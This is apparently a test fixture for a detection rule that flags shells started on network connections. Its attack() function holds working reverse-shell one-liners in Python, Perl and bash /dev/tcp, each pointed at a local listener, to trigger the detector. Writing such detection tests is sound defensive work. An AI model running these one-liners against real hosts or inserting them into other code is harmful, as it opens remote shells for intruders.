# Rule: Shell started on a connection
# Also: go
benign() {
    catcher 4103
    "$TOOL" connect 127.0.0.1 4103
    echo 'exit 0' | sh
}
attack() {
    catcher 4104
    "$TOOL" shell-on 127.0.0.1 4104
    catcher 4105
    /usr/bin/python3 -c 'import os, socket; s = socket.create_connection(("127.0.0.1", 4105)); [os.dup2(s.fileno(), n) for n in (0, 1, 2)]; os.execv("/bin/sh", ["sh"])'
    catcher 4106
    /usr/bin/perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(4106, inet_aton("127.0.0.1"))) or die; open(STDIN, "<&S"); open(STDOUT, ">&S"); exec("/bin/sh")'
    catcher 4107
    /bin/bash -c 'exec /bin/sh <>/dev/tcp/127.0.0.1/4107 >&0 2>&0'
}
